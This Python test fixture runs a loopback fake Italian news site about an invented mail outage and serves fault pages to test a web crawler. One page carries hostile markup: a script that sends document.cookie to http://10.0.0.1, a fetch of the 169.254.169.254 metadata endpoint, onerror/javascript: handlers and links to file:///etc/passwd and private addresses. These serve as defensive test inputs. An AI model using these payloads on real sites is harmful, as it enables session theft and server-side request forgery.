"""A small Italian news site about an invented mail outage, served on loopback with faults.

    with FaultSite() as site:            # ThreadingHTTPServer on 127.0.0.1, port 0, in a thread
        site.url("/")                     # "http://127.0.0.1:PORT/"
        site.requests                     # [(monotonic time, method, path, status), ...]

The site is also the crawl's HTTP proxy (tests set ``http_proxy`` to it), so a request for
any other host reaches it as an absolute URI and is logged with that host: an offsite or
private-address request never leaves loopback and always shows up in ``site.offsite()``.

Faults (each path below is linked from the home page):
  /notizie/instabile.html      503 the first time, then the article
  /notizie/affollato.html      429 with Retry-After: RETRY_AFTER the first time, then the article
  /notizie/interrotto.html     connection reset the first time, then the article
  /notizie/reset.html          connection reset every time
  /notizie/appeso.html         never answers (until the server stops, at most HANG_SECONDS)
  /giro/a.html, /giro/b.html   redirect to each other forever
  /archivio/enorme.html        40 MB of HTML, streamed without Content-Length
  /allegati/dati.html          binary data served as text/html
  /notizie/troncato.html       HTML cut off mid-page (the article is in the first part)
  /notizie/malformato.html     unclosed and mis-nested tags (the article is all there)
  /notizie/sparito.html 404,   /notizie/rimosso.html 410
  /riservato/segreto.html      disallowed by robots.txt: must never be requested
  /notizie/ostile.html         hostile markup (<script>, onerror=, javascript: links, private links)
  /notizie/codice.html         an article that quotes hostile markup as text
"""

from __future__ import annotations

import html
import json
import random
import socket
import struct
import threading
import time
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from urllib.parse import urlsplit

RETRY_AFTER = 2
HANG_SECONDS = 20
HUGE_BYTES = 40 * 1024 * 1024

INCIDENT = "Posta Lampo"
SOURCES_YAML = """\
incident:
  slug: posta-lampo-2024
  title: Disservizio di Posta Lampo, febbraio 2024
  timezone: Europe/Rome
  keywords: [posta lampo]
  window: {{start: 2024-02-01, end: 2024-03-31}}
sources:
  - name: cronaca-digitale
    kind: news
    start_urls: ["{start}"]
"""

STREETS = [
    "Milano",
    "Torino",
    "Napoli",
    "Bari",
    "Genova",
    "Bologna",
    "Firenze",
    "Palermo",
    "Verona",
    "Trieste",
    "Padova",
    "Parma",
    "Modena",
    "Cagliari",
    "Perugia",
    "Ancona",
]


def sources_yaml(start_url: str) -> str:
    """The sources file for the site (written by the tests into tmp_path)."""
    return SOURCES_YAML.format(start=start_url)


def article(
    slug: str, n: int, *, title: str | None = None, extra: str = "", version: int = 0
) -> str:
    """An Italian article about the outage, with a JSON-LD publication date inside the window."""
    day = 5 + n % 20
    hour = 8 + n % 10
    city = STREETS[n % len(STREETS)]
    title = title or f"{INCIDENT}, {city}: caselle irraggiungibili per il disservizio n. {n}"
    published = f"2024-02-{day:02d}T{hour:02d}:15:00+01:00"
    jsonld = json.dumps(
        {
            "@context": "https://schema.org",
            "@type": "NewsArticle",
            "headline": title,
            "datePublished": published,
            "author": {"@type": "Person", "name": f"Redazione {city}"},
        }
    )
    note = (
        f" Aggiornamento {version}: il servizio è tornato regolare alle 18:30." if version else ""
    )
    paragraphs = [
        f"Da lunedì {day} febbraio 2024 molti utenti di {INCIDENT} a {city} non riescono ad "
        "accedere "
        f"alla propria casella di posta elettronica. Il disservizio è iniziato intorno alle "
        f"{hour}:00 e, secondo le segnalazioni raccolte, riguarda sia la webmail sia l'app.",
        f"L'azienda ha spiegato in una nota che il problema nasce da un guasto a un sistema di "
        f"archiviazione del centro dati. I tecnici sono al lavoro e il ripristino completo è "
        f"previsto entro mercoledì {day + 2} febbraio.{note}",
        f"Le associazioni dei consumatori chiedono un indennizzo per gli abbonati dei piani a "
        f"pagamento e invitano a conservare le prove del disservizio. Il caso numero {n} "
        f"segnalato da {city} riguarda uno studio professionale rimasto senza posta "
        "per due giorni.",
        f"{INCIDENT} ha promesso un nuovo comunicato nelle prossime ore, mentre sui social gli "
        f"utenti continuano a condividere messaggi di errore e tempi di attesa.",
    ]
    body = "\n".join(f"<p>{html.escape(p)}</p>" for p in paragraphs)
    return f"""<!DOCTYPE html>
<html lang="it"><head><meta charset="utf-8">
<title>{html.escape(title)} - Cronaca Digitale</title>
<script type="application/ld+json">{jsonld}</script>
</head><body>
<header><a href="/">Cronaca Digitale</a></header>
<article><h1>{html.escape(title)}</h1>
<p class="byline">di Redazione {city} — <time datetime="{published}">{day} febbraio 2024</time></p>
{body}
{extra}
</article>
<footer><a href="/">Torna alla home</a></footer>
</body></html>
"""


HOSTILE = """<!DOCTYPE html>
<html lang="it"><head><meta charset="utf-8">
<title>Posta Lampo: truffa durante il disservizio</title>
<script type="application/ld+json">{"@context":"https://schema.org","@type":"NewsArticle",
 "headline":"Posta Lampo: truffa durante il disservizio",
 "datePublished":"2024-02-07T10:00:00+01:00"}</script>
<script>document.location='http://10.0.0.1/rubare?c='+document.cookie</script>
</head><body onload="alert('body')">
<article>
<h1>Posta Lampo: truffa<script>alert('titolo')</script> durante il disservizio<img src=x
onerror="alert('h1')"></h1>
<p>Mercoledì 7 febbraio 2024 alle 10:00 molti clienti di Posta Lampo hanno ricevuto messaggi falsi
<img src="x" onerror="alert('xss')"> che promettevano il ripristino della casella in cambio
della password.
<script>fetch('http://169.254.169.254/latest/meta-data/')</script></p>
<p>Il servizio clienti di Posta Lampo ricorda che non chiede mai le credenziali per email
<a href="javascript:alert('link')" onclick="alert('click')">clicca qui</a> e che il disservizio è
stato causato da un guasto tecnico, non da un attacco. Le verifiche proseguono da giovedì
8 febbraio.</p>
<p>Gli utenti di Posta Lampo che hanno inserito la password devono cambiarla subito e avvisare
la banca se l'hanno usata anche altrove, spiegano gli esperti di sicurezza consultati.
<svg onload="alert('svg')"></svg><iframe src="javascript:alert('iframe')"></iframe></p>
<ul class="link-pericolosi">
<li><a href="file:///etc/passwd">file</a></li>
<li><a href="ftp://127.0.0.1/posta.zip">ftp</a></li>
<li><a href="data:text/html,<script>alert(1)</script>">data</a></li>
<li><a href="javascript:alert(document.domain)">js</a></li>
<li><a href="http://10.0.0.1/admin">rete interna</a></li>
<li><a href="http://192.168.1.1/router">router</a></li>
<li><a href="http://169.254.169.254/latest/meta-data/">metadati</a></li>
<li><a href="http://[::1]:8080/">ipv6 loopback</a></li>
<li><a href="http://esterno.example/notizie/posta-lampo.html">altro sito</a></li>
<li><a href="https://esterno.example/notizie/sicuro.html">altro sito https</a></li>
</ul>
</article></body></html>
"""

# An article that *quotes* hostile markup: the stored text legitimately contains it, so every
# page that shows the text must escape it.
QUOTED_CODE = article(
    "codice",
    90,
    title="Posta Lampo, il messaggio truffa conteneva codice",
    extra="<p>Il messaggio truffa inviato agli utenti di Posta Lampo conteneva il codice "
    "&lt;script&gt;alert('posta')&lt;/script&gt; e un'immagine con l'attributo "
    "&lt;img src=x onerror=alert(1)&gt;, spiegano gli esperti.</p>",
)

QUOTED_MARKERS = ("<script>alert('posta')", "onerror=alert(1)")

TRUNCATED = article("troncato", 40)[
    : -len('</article>\n<footer><a href="/">Torna alla home</a></footer>\n</body></html>\n') - 30
]

MALFORMED = (
    article("malformato", 41)
    .replace("<p>", "<p><div><b><i>", 2)
    .replace("</p>", "</b></div>", 2)
    .replace("<footer>", "</span></td></table><footer><p><p><li")
    .replace('class="byline"', "class=byline data-x='<>'")
)

FAULT_LINKS = [
    "/notizie/instabile.html",
    "/notizie/affollato.html",
    "/notizie/interrotto.html",
    "/notizie/reset.html",
    "/notizie/appeso.html",
    "/giro/a.html",
    "/archivio/enorme.html",
    "/allegati/dati.html",
    "/notizie/troncato.html",
    "/notizie/malformato.html",
    "/notizie/sparito.html",
    "/notizie/rimosso.html",
    "/riservato/segreto.html",
    "/notizie/ostile.html",
    "/notizie/codice.html",
]
# The pages that must end up stored (the articles that arrive, sooner or later, in one piece).
GOOD_FAULT_PAGES = [
    "/notizie/instabile.html",
    "/notizie/affollato.html",
    "/notizie/interrotto.html",
    "/notizie/troncato.html",
    "/notizie/malformato.html",
    "/notizie/ostile.html",
    "/notizie/codice.html",
]
NEVER_STORED = [
    "/notizie/reset.html",
    "/notizie/appeso.html",
    "/giro/a.html",
    "/giro/b.html",
    "/archivio/enorme.html",
    "/allegati/dati.html",
    "/notizie/sparito.html",
    "/notizie/rimosso.html",
    "/riservato/segreto.html",
]


def index_page(links: list[str]) -> str:
    items = "\n".join(f'<li><a href="{href}">{href.rsplit("/", 1)[-1]}</a></li>' for href in links)
    return f"""<!DOCTYPE html>
<html lang="it"><head><meta charset="utf-8"><title>Cronaca Digitale - Ultime notizie</title></head>
<body><h1>Ultime notizie</h1><ul>
{items}
</ul></body></html>
"""


class FaultSite:
    """The site above on a ThreadingHTTPServer; ``articles`` plain articles, ``faults`` the fault
    pages.

    ``delay`` slows every page down (seconds), so a crawl lasts long enough to be killed.
    ``edits[path]`` replaces a page's HTML (a page that changed between two crawls).
    """

    def __init__(self, articles: int = 6, faults: bool = True, delay: float = 0.0):
        self.articles = articles
        self.faults = faults
        self.delay = delay
        self.edits: dict[str, str] = {}
        self.requests: list[tuple[float, str, str, int]] = []
        self.stopping = threading.Event()
        self._lock = threading.Lock()
        self._hits: dict[str, int] = {}
        self.server = ThreadingHTTPServer(("127.0.0.1", 0), self._handler())
        self.server.daemon_threads = True
        self.port = self.server.server_address[1]
        self.origin = f"127.0.0.1:{self.port}"
        self.thread = threading.Thread(
            target=self.server.serve_forever, name="fault-site", daemon=True
        )

    def __enter__(self) -> FaultSite:
        self.thread.start()
        return self

    def __exit__(self, *exc) -> None:
        self.stopping.set()
        self.server.shutdown()
        self.server.server_close()
        self.thread.join(timeout=5)

    def url(self, path: str) -> str:
        return f"http://{self.origin}{path}"

    def article_paths(self) -> list[str]:
        return [f"/notizie/guasto-{n}.html" for n in range(self.articles)]

    def good_paths(self) -> list[str]:
        """Every page that should become a document."""
        return self.article_paths() + (GOOD_FAULT_PAGES if self.faults else [])

    def paths_requested(self) -> list[str]:
        return [path for _, _, path, _ in self.requests]

    def offsite(self) -> list[str]:
        """Requests for anything but this site (absolute URIs for other hosts, CONNECT tunnels)."""
        return [
            path
            for _, method, path, _ in self.requests
            if method == "CONNECT" or path.startswith("//")
        ]

    def times_of(self, path: str) -> list[float]:
        return [at for at, _, p, _ in self.requests if p == path]

    def hit(self, path: str) -> int:
        """How many times ``path`` was asked for so far, this one included."""
        with self._lock:
            self._hits[path] = self._hits.get(path, 0) + 1
            return self._hits[path]

    def log(self, method: str, path: str, status: int) -> None:
        with self._lock:
            self.requests.append((time.monotonic(), method, path, status))

    def _handler(self):
        site = self

        class Handler(BaseHTTPRequestHandler):
            protocol_version = "HTTP/1.1"

            def log_message(self, *args):  # the tests read site.requests instead
                pass

            def do_CONNECT(self):
                site.log("CONNECT", self.path, 403)
                self.send_error(403)

            def do_GET(self):
                target = urlsplit(self.path)
                if target.scheme:  # an absolute URI: we are being used as the proxy
                    if target.netloc != site.origin:
                        site.log("GET", f"//{target.netloc}{target.path}", 502)
                        self.send_error(502, "offsite request refused by the test proxy")
                        return
                path = target.path or "/"
                try:
                    site.serve(self, path)
                except (BrokenPipeError, ConnectionResetError):
                    pass

        return Handler

    # -- the pages -------------------------------------------------------------------------

    def send(
        self,
        handler,
        path: str,
        status: int,
        body: bytes | str = b"",
        content_type: str = "text/html; charset=utf-8",
        headers: dict | None = None,
    ) -> None:
        if isinstance(body, str):
            body = body.encode("utf-8")
        self.log("GET", path, status)
        handler.send_response(status)
        handler.send_header("Content-Type", content_type)
        handler.send_header("Content-Length", str(len(body)))
        for name, value in (headers or {}).items():
            handler.send_header(name, value)
        handler.end_headers()
        handler.wfile.write(body)

    def reset(self, handler, path: str) -> None:
        """Close the connection with a TCP RST before any response."""
        self.log("GET", path, 0)
        handler.connection.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
        handler.close_connection = True
        handler.connection.close()

    def serve(self, handler, path: str) -> None:
        if self.delay and path != "/robots.txt":
            time.sleep(self.delay)
        n = self.hit(path)
        if path in self.edits:
            return self.send(handler, path, 200, self.edits[path])
        if path == "/robots.txt":
            return self.send(
                handler, path, 200, "User-agent: *\nDisallow: /riservato/\n", "text/plain"
            )
        if path == "/":
            links = self.article_paths() + (FAULT_LINKS if self.faults else [])
            return self.send(handler, path, 200, index_page(links))
        if path in self.article_paths():
            k = int(path.rsplit("-", 1)[1].split(".")[0])
            return self.send(handler, path, 200, article(path, k))
        if not self.faults:
            return self.send(handler, path, 404, "<html><body>Pagina non trovata</body></html>")
        if path == "/notizie/instabile.html":
            if n == 1:
                return self.send(
                    handler, path, 503, "<html><body>Servizio non disponibile</body></html>"
                )
            return self.send(handler, path, 200, article(path, 31))
        if path == "/notizie/affollato.html":
            if n == 1:
                return self.send(
                    handler,
                    path,
                    429,
                    "<html><body>Troppe richieste</body></html>",
                    headers={"Retry-After": str(RETRY_AFTER)},
                )
            return self.send(handler, path, 200, article(path, 32))
        if path == "/notizie/interrotto.html":
            if n == 1:
                return self.reset(handler, path)
            return self.send(handler, path, 200, article(path, 33))
        if path == "/notizie/reset.html":
            return self.reset(handler, path)
        if path == "/notizie/appeso.html":
            self.log("GET", path, 0)
            self.stopping.wait(HANG_SECONDS)
            handler.close_connection = True
            return None
        if path in ("/giro/a.html", "/giro/b.html"):
            other = "/giro/b.html" if path == "/giro/a.html" else "/giro/a.html"
            return self.send(handler, path, 302, b"", headers={"Location": self.url(other)})
        if path == "/archivio/enorme.html":
            return self.stream_huge(handler, path)
        if path == "/allegati/dati.html":
            return self.send(handler, path, 200, random.Random(7).randbytes(200_000))
        if path == "/notizie/troncato.html":
            return self.send(handler, path, 200, TRUNCATED)
        if path == "/notizie/malformato.html":
            return self.send(handler, path, 200, MALFORMED)
        if path == "/notizie/sparito.html":
            return self.send(handler, path, 404, "<html><body>Pagina non trovata</body></html>")
        if path == "/notizie/rimosso.html":
            return self.send(handler, path, 410, "<html><body>Pagina rimossa</body></html>")
        if path == "/notizie/ostile.html":
            return self.send(handler, path, 200, HOSTILE)
        if path == "/notizie/codice.html":
            return self.send(handler, path, 200, QUOTED_CODE)
        return self.send(handler, path, 404, "<html><body>Pagina non trovata</body></html>")

    def stream_huge(self, handler, path: str) -> None:
        """40 MB of HTML without Content-Length: only DOWNLOAD_MAXSIZE can stop it mid-way."""
        self.log("GET", path, 200)
        handler.send_response(200)
        handler.send_header("Content-Type", "text/html; charset=utf-8")
        handler.send_header("Connection", "close")
        handler.end_headers()
        handler.close_connection = True
        chunk = (f"<p>{INCIDENT} archivio " + "x" * 1000 + "</p>\n").encode() * 64
        handler.wfile.write(b"<html><body>")
        sent = 0
        while sent < HUGE_BYTES and not self.stopping.is_set():
            handler.wfile.write(chunk)
            sent += len(chunk)
